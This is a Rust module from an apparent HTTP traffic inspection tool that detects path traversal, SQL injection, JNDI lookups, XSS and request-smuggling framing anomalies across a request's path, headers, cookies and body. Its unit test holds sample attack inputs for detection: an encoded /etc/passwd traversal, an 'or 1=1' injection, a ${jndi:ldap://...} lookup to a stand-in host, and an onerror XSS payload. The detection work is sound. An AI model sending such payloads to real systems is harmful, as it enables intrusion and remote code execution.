//! Attack detection over a whole request: the path, every query parameter, header, cookie,
//! form field and JSON value (see [`crate::fields`]), and the framing anomalies that smuggling
//! leaves behind.

use super::{AttackHit, Family, detect};
use crate::fields::{Field, Walk, Walker};
use tapline_record::{Anomalies, Transaction};

/// One detection in a request, with where it was.
#[derive(Debug)]
pub struct AttackFound<'a> {
    /// Where the value was (`request.query.q`, `request.header.user-agent`, `request.path`).
    pub location: &'a str,
    /// The field name, if any.
    pub key: Option<&'a str>,
    /// The value as sent (decoded from its location, before normalisation).
    pub value: &'a str,
    /// What fired.
    pub hit: AttackHit,
}

/// Framing anomalies that mean two parsers may disagree on where a request ends.
const SMUGGLING: &[(Anomalies, &str, &str)] = &[
    (
        Anomalies::TE_AND_CL,
        "smuggling.te_and_cl",
        "both Transfer-Encoding and Content-Length",
    ),
    (
        Anomalies::BAD_CONTENT_LENGTH,
        "smuggling.bad_content_length",
        "conflicting or malformed Content-Length",
    ),
    (
        Anomalies::BAD_TRANSFER_ENCODING,
        "smuggling.bad_transfer_encoding",
        "a Transfer-Encoding other than a final chunked",
    ),
];

/// Values remembered as clean, at most (then the memory starts over).
const MAX_CLEAN: usize = 1 << 16;

/// Reusable state for scanning many requests on one thread.
#[derive(Default, Debug)]
pub struct RequestScanner {
    walker: Walker,
    /// Hashes of (field name, value) pairs that detected nothing: traffic repeats the same
    /// headers, cookies and parameters, and detection is a pure function of the pair.
    clean: std::collections::HashSet<u64, foldhash::fast::FixedState>,
}

fn pair_hash(key: Option<&str>, value: &str) -> u64 {
    use std::hash::BuildHasher;
    foldhash::fast::FixedState::with_seed(0x5ca1_ab1e).hash_one((key, value))
}

/// Detects in one value unless it is known clean; remembers it when clean.
fn detect_cached(
    clean: &mut std::collections::HashSet<u64, foldhash::fast::FixedState>,
    key: Option<&str>,
    value: &str,
) -> Vec<AttackHit> {
    let h = pair_hash(key, value);
    if clean.contains(&h) {
        return Vec::new();
    }
    let hits = detect(value, key);
    if hits.is_empty() {
        if clean.len() >= MAX_CLEAN {
            clean.clear();
        }
        clean.insert(h);
    }
    hits
}

impl RequestScanner {
    /// Calls `found` for every detection in `tx`'s request.
    pub fn scan(&mut self, tx: &Transaction, found: &mut dyn FnMut(AttackFound<'_>)) {
        if tx.method.is_empty() {
            return; // a response without a request
        }
        let path = tx.path();
        for hit in detect_cached(&mut self.clean, None, path) {
            found(AttackFound {
                location: "request.path",
                key: None,
                value: path,
                hit,
            });
        }
        let clean = &mut self.clean;
        self.walker.walk(tx, Walk::REQUEST, &mut |f: Field<'_>| {
            for hit in detect_cached(clean, f.key, f.value) {
                found(AttackFound {
                    location: f.location,
                    key: f.key,
                    value: f.value,
                    hit,
                });
            }
        });
        for (flag, rule, why) in SMUGGLING {
            if tx.anomalies.contains(*flag) {
                found(AttackFound {
                    location: "request.framing",
                    key: None,
                    value: "",
                    hit: AttackHit {
                        family: Family::RequestSmuggling,
                        rule,
                        why: (*why).to_owned(),
                    },
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_location_and_the_framing() {
        let mut tx = Transaction {
            method: "POST".into(),
            uri: "/files/..%2f..%2fetc%2fpasswd?q=1%27%20or%20%271%27%3D%271&page=2".into(),
            anomalies: Anomalies::TE_AND_CL,
            ..Transaction::default()
        };
        tx.request_headers
            .push("User-Agent", "${jndi:ldap://x.example/a}");
        tx.request_headers.push("Content-Type", "application/json");
        tx.request_body.data = br#"{"comment":"<img src=x onerror=alert(1)>","n":1}"#.to_vec();
        let mut got = Vec::new();
        RequestScanner::default().scan(&tx, &mut |f| {
            got.push((f.location.to_owned(), f.hit.family))
        });
        for want in [
            ("request.path", Family::PathTraversal),
            ("request.query.q", Family::Sqli),
            ("request.header.user-agent", Family::Jndi),
            ("request.body.comment", Family::Xss),
            ("request.framing", Family::RequestSmuggling),
        ] {
            assert!(
                got.iter().any(|(l, f)| l == want.0 && *f == want.1),
                "{want:?} not in {got:?}"
            );
        }
        assert!(!got.iter().any(|(l, _)| l.contains("page")), "{got:?}");
    }
}
